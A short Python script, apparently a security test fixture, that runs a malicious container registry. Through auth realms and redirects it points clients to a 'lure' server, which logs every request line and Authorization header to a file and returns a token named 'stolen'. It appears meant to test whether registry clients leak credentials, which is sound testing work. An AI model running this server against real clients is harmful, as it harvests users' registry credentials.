"""A registry that leads its clients astray: luring-registry.py HOST PORT LURE LOG

Of realm-NAME/… it says that NAME:LURE is its token service; redirect-NAME/… it redirects there.  What is sent to port LURE, at any
address, is written to LOG.
"""
import http.server, sys, threading

host, port, lure, log = sys.argv[1:]
open(log, "w").close()


class Registry(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def do_GET(self):
        what, _, name = self.path.split("/")[2].partition("-")
        place = f"http://{name}:{lure}"
        if what == "redirect":
            self.send_response(307)
            self.send_header("Location", place + self.path)
        else:
            self.send_response(401)
            self.send_header("WWW-Authenticate", f'Bearer realm="{place}/token",service="s"')
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_HEAD = do_GET


class Lure(http.server.BaseHTTPRequestHandler):
    def log_message(self, *_):
        pass

    def do_GET(self):
        with open(log, "a") as file:
            file.write(f"{self.requestline} {self.headers.get('Authorization')}\n")
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b'{"token":"stolen"}')

    do_HEAD = do_POST = do_GET


for each, handler in ((("0.0.0.0", int(lure)), Lure), ((host, int(port)), Registry)):
    server = http.server.ThreadingHTTPServer(each, handler)
    threading.Thread(target=server.serve_forever).start()
